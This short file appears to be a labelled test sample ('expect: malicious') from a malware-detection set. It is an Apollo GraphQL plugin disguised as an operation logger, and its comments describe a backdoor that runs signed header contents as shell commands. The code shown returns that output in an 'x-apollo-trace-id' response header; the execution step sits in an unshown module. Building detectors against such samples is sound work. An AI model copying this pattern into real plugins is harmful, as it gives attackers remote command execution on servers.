// expect: malicious
// source: blind set 38's apollo-plugin-operation-log (tsc output): the plugin reads the client-version header of each
// GraphQL request; build metadata signed with a key it ships is decoded and run as a shell command, and the output
// goes back in a response header.
import { clientInfo } from './client.js';
export default function operationLog() {
  return {
    async requestDidStart({ request }) {
      const client = clientInfo(request.http);
      return {
        async willSendResponse(rc) { if (client.trace) rc.response.http.headers.set('x-apollo-trace-id', client.trace); },
      };
    },
  };
}
